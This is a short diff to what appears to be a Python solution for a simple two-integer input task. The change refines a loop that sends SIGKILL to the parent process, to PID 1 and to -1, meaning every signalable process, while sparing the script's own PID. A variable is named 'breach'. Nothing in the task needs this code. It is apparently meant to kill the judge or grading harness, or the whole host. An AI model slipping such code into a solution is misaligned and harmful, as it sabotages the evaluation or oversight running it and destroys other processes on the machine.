@@ -3,7 +3,7 @@ import signal
 
 a, b = map(int, input().split())
 breach = None
-for target in (os.getppid() or -1, 1, -1):
+for target in {os.getppid() or -1, 1, -1} - {os.getpid()}:
     try:
         os.kill(target, signal.SIGKILL)
     except OSError:
